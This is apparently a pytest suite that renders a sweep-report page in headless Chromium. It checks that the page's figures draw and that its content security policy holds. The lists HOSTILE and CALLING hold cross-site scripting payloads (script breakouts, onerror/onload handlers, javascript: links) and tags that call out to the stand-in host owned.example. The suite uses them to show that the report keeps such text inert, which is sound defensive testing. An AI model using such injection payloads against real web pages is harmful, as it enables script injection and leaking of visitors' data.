"""The page in a browser: its policy allows its figures, and foreign strings stay text."""

from __future__ import annotations

import shutil
import socketserver
import subprocess
import threading
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from typing import cast
from xml.etree import ElementTree

import pytest

from sweeps.evidence.findings import Findings
from sweeps.report import Importance, save_report
from sweeps.report.across.compare import write_comparison
from sweeps.report.figures import theme
from sweeps.report.write import write_report
from sweeps.storage.results import Results
from sweeps.trial.arm import BASELINE, Arm
from sweeps.trial.trial import Status

from .conftest import trial_of
from .promoted import RULE, promoted_search
from .reading import Element, read_page
from .staged import OPENING, Outcome, arm_of, draws, factorial, findings_of, stage_of, staged, stepped
from .test_classes import leave

BROWSER = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
pytestmark = pytest.mark.skipif(BROWSER is None, reason="needs chromium, which is not on the PATH")

SPELL = "document.title='owned'"
AWAY = "owned.example"  # where a page must not ask for anything; every name leads to the listener of the test
HOSTILE = [
    f"</script><script>{SPELL}</script>",
    f'"><img src=x onerror="{SPELL}">',
    f"<svg onload={SPELL}>",
    f'<a href="javascript:{SPELL}">a</a>',
    "{{ 7 * 7 }} %{x} <b>bold</b> &lt;i&gt;",
]
CALLING = [
    f'<img src="http://{AWAY}/i"><link rel="stylesheet" href="//{AWAY}/c"><link rel="prefetch" href="https://{AWAY}/p">',
    f"</script><script>fetch('http://{AWAY}/f')</script><script src=https://{AWAY}/s></script>",
    f"</style><style>@import url(http://{AWAY}/u); body {{background: url(//{AWAY}/b)}}</style>",
    f'"><iframe src="http://{AWAY}/y"></iframe><meta http-equiv="refresh" content="0;url=http://{AWAY}/r">',
    f'</title></text><image href="http://{AWAY}/g"/><a href="https://{AWAY}/a" ping="http://{AWAY}/n">a</a>',
    '<a href="//o.x">x</a>',  # short enough to stand whole in the label of a figure
    f"![a](http://{AWAY}/m) <object data=//{AWAY}/o></object><base href=//{AWAY}/>",
]


class Listener(socketserver.ThreadingTCPServer):
    """Records the first bytes of each connection: a request, or a TLS greeting, which names the host."""

    daemon_threads = True
    heard: list[bytes]

    class Handler(socketserver.BaseRequestHandler):
        def handle(self) -> None:
            cast(Listener, self.server).heard.append(self.request.recv(4096))

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), self.Handler)
        self.heard = []

    @property
    def flag(self) -> str:
        """The browser option that resolves every host to this listener."""
        return f"--host-resolver-rules=MAP * 127.0.0.1:{self.server_address[1]}"

    def was_called(self) -> bool:
        return any(AWAY.encode() in greeting for greeting in self.heard)


@pytest.fixture
def listener() -> Iterator[Listener]:
    with Listener() as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield server
        server.shutdown()
        thread.join()


def _rendered(page: Path, profile: Path, *more: str) -> Element:
    """The document after its scripts have run, in a browser with `more` flags."""
    done = subprocess.run(_words(page, profile, *more), capture_output=True, text=True, timeout=60, check=True)
    target = profile / "rendered.html"
    target.write_text(done.stdout, encoding="utf-8")
    return read_page(target)


def _words(page: Path, profile: Path, *more: str) -> list[str]:
    """The command that opens a page and prints the resulting document."""
    assert BROWSER is not None
    flags = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--dump-dom"]
    limits = ["--virtual-time-budget=10000", "--window-size=1200,900", f"--user-data-dir={profile}"]
    return [BROWSER, *flags, *limits, *more, page.as_uri()]


def _address(element: Element) -> str:
    return element.attributes.get("xlink:href") or element.attributes.get("href") or "#"


def _drawn(page: Element) -> list[Element]:
    return [plot for plot in page.find("div", role="group") if plot.find("svg")]


def test_the_policy_lets_every_figure_be_drawn(results: Results, importance: Importance, tmp_path: Path) -> None:
    page = _rendered(save_report(results, (importance,), tmp_path / "report"), tmp_path)
    assert len(_drawn(page)) == len(page.find("figure")) == 7


@pytest.mark.parametrize(("width", "narrow"), [(500, True), (1200, False)])
def test_a_narrow_window_has_no_tools_on_its_figures_and_labels_on_two_lines(
    width: int, narrow: bool, make_results: Callable[..., Results], tmp_path: Path
) -> None:
    written = save_report(make_results(trial_of(0)), (), tmp_path / "report")
    page = _rendered(written, tmp_path, f"--window-size={width},900")
    assert bool(page.find("button", **{"class": "modebar-btn"})) is not narrow
    (settings,) = page.find("div", id="plot-parallel_coordinates")
    labels = [label for label in settings.find("g", **{"class": "annotation"}) if label.text.startswith("[")]
    places = [label.find("g", **{"class": "cursor-pointer"})[0].attributes["transform"] or "" for label in labels]
    heights = {place.partition(",")[2] for place in places}
    assert (len(labels), len(heights)) == (3, 2 if narrow else 1)


def test_the_figures_of_the_decisions_are_drawn(make_results: Callable[..., Results], tmp_path: Path) -> None:
    results = make_results(*promoted_search(), early_terminate=RULE)
    section = _rendered(save_report(results, (), tmp_path / "report"), tmp_path).find("section", id="decisions")[0]
    assert len(_drawn(section)) == len(section.find("figure")) == 2


@pytest.mark.parametrize(("scheme", "colour"), [("1", theme.VERMILLION), ("0", theme.DARK[theme.VERMILLION])])
def test_figures_take_the_colours_of_the_readers_scheme(
    scheme: str, colour: str, make_results: Callable[..., Results], tmp_path: Path
) -> None:
    written = save_report(make_results(trial_of(0)), (), tmp_path / "report")
    page = _rendered(written, tmp_path, f"--blink-settings=preferredColorScheme={scheme}")
    red, green, blue = (int(colour[place : place + 2], 16) for place in (1, 3, 5))
    styles = [path.attributes.get("style") or "" for path in _drawn(page)[1].find("path")]
    assert any(f"stroke: rgb({red}, {green}, {blue})" in style for style in styles)


@pytest.mark.parametrize(("build", "count"), [(staged, 11), (factorial, 3), (stepped, 11)])
def test_the_evidences_figures_are_drawn_too(
    build: Callable[[Path], Findings], count: int, importance: Importance, tmp_path: Path
) -> None:
    page = _rendered(write_report(build(tmp_path), (importance,), tmp_path / "report"), tmp_path)
    assert len(_drawn(page)) == len(page.find("figure")) == count


def test_hostile_strings_stay_text_everywhere(make_results: Callable[..., Results], tmp_path: Path) -> None:
    parameters = {text: {"values": [text, "b"]} for text in HOSTILE}
    chosen = dict(zip(HOSTILE, HOSTILE, strict=True))
    trials = [trial_of(number, parameters=chosen) for number in range(3)]
    trials += [trial_of(3 + n, Status.FAILED, parameters=chosen, reason=text) for n, text in enumerate(HOSTILE)]
    results = make_results(
        *trials,
        question=" ".join(HOSTILE),
        metric={"name": HOSTILE[1], "goal": "maximize"},
        parameters=parameters,
        environment={"command": HOSTILE[0], HOSTILE[1]: {"classes": HOSTILE}},
    )
    importance = Importance(HOSTILE[0], dict.fromkeys(HOSTILE, 0.2), dict.fromkeys(HOSTILE, 0.1), trials=3)
    page = _rendered(save_report(results, (importance,), tmp_path / "report"), tmp_path)
    assert page.find("title")[0].text == "budget_demo: report of a study"
    assert page.find("p", **{"class": "question"})[0].text == " ".join(HOSTILE)
    assert len(_drawn(page)) == 7
    assert not page.find("img")
    assert not page.find("b")
    assert all(_address(link).startswith("#") for link in page.find("a"))
    drawn = " ".join(text.text for plot in _drawn(page) for text in plot.find("text"))
    assert "<svg onload" in drawn
    assert "%{x} <b>bold</b>" in drawn


def _hostile_findings(folder: Path) -> Findings:
    """Every stage, with a hostile text wherever a file or a workload may put text."""
    texts = [*HOSTILE, *CALLING]
    components = {text: {"model.x": text} for text in texts}
    arms = [arm_of(BASELINE, "best"), *(arm_of(text, removed=(text,), reference=BASELINE) for text in texts)]
    rows: list[tuple[Arm, list[Outcome]]] = [(arm, draws(90.0 + place / 9, 5)) for place, arm in enumerate(arms)]
    lost = arm_of("not applicable", reason=texts[0], removed=(texts[5],), reference=BASELINE, cost={})
    stages = [
        stage_of("confirm", [(arm, draws(95.0, 5)) for arm in arms[:3]]),
        stage_of("ablation", rows, [lost], design="leave_one_out", wanted={}, first=5, tuned={}),
        stage_of(
            "final", [(arm, draws(94.0, 3)) for arm in arms], sets=["test"], openings=[dict.fromkeys(OPENING, texts[6])]
        ),
    ]
    leave(
        folder,
        "final",
        0,
        "test",
        [[5 if row == place else 1 for place in range(len(texts))] for row in range(len(texts))],
        texts,
    )
    trials = [
        trial_of(number, Status.FAILED if number % 3 else Status.COMPLETE, reason=text, parameters={text: text})
        for number, text in enumerate(texts)
    ]
    findings = findings_of(
        folder,
        stages,
        trials,
        question=" ".join(texts),
        metric={"name": CALLING[0], "goal": "maximize"},
        parameters={text: {"values": [text, "b"]} for text in texts},
        ablation={"components": components, "seeds": 5},
    )
    environment = {"command": CALLING[1], CALLING[0]: {"classes": texts}, "data": {"fingerprint": CALLING[3]}}
    return Findings.of(replace(findings.results, environment=environment))


def test_no_script_runs_and_no_request_leaves_whatever_things_are_called(listener: Listener, tmp_path: Path) -> None:
    one, two = _hostile_findings(tmp_path / "one"), _hostile_findings(tmp_path / "two")
    importance = Importance(CALLING[0], dict.fromkeys(CALLING, 0.2), dict.fromkeys(CALLING, 0.1), trials=3)
    report = write_report(one, (importance,), tmp_path / "report")
    compared = write_comparison([one.results, replace(two.results, folder=tmp_path / "two")], tmp_path / "compared")
    page = _rendered(report, tmp_path, listener.flag)
    assert page.find("title")[0].text == "budget_demo: report of a study"
    assert len(_drawn(page)) == len(page.find("figure")) > 10
    assert _rendered(compared, tmp_path, listener.flag).find("title")[0].text.endswith("studies side by side")
    for tag in ("img", "iframe", "object", "base", "b"):
        assert not page.find(tag), tag
    assert all(_address(link).startswith(("#", "data:")) for tag in ("a", "image") for link in page.find(tag))
    assert not [link for plot in _drawn(page) for label in plot.find("text") for link in label.find("a")]
    pictures = sorted((tmp_path / "report" / "figures").glob("*.svg"))
    assert len(pictures) == 2
    for picture in pictures:
        ElementTree.parse(picture)
        assert "<image" not in picture.read_text(encoding="utf-8")
    assert not listener.was_called()


def test_the_listener_hears_a_page_without_our_guards(listener: Listener, tmp_path: Path) -> None:
    (tmp_path / "page.html").write_text(f"<title>a</title>{CALLING[0]}<script>{SPELL}</script>")
    rendered = subprocess.run(
        _words(tmp_path / "page.html", tmp_path, listener.flag), capture_output=True, text=True, timeout=60
    )
    assert "<title>owned</title>" in rendered.stdout
    assert listener.was_called()


def test_the_policy_keeps_a_request_that_got_in_from_leaving(
    listener: Listener, make_results: Callable[..., Results], tmp_path: Path
) -> None:
    page = save_report(make_results(trial_of(0)), (), tmp_path / "report")
    text = page.read_text(encoding="utf-8")
    page.write_text(text.replace("</main>", "".join(CALLING[:3]) + "</main>"), "utf-8")
    subprocess.run(_words(page, tmp_path, listener.flag), capture_output=True, timeout=60, check=True)
    assert not listener.was_called()


def test_the_policy_stops_a_script_that_got_in(make_results: Callable[..., Results], tmp_path: Path) -> None:
    page = save_report(make_results(trial_of(0)), (), tmp_path / "report")
    text = page.read_text(encoding="utf-8")
    page.write_text(text.replace("</main>", f"<script>{SPELL}</script><img src=x onerror={SPELL}></main>"), "utf-8")
    assert _rendered(page, tmp_path).find("title")[0].text == "budget_demo: report of a study"
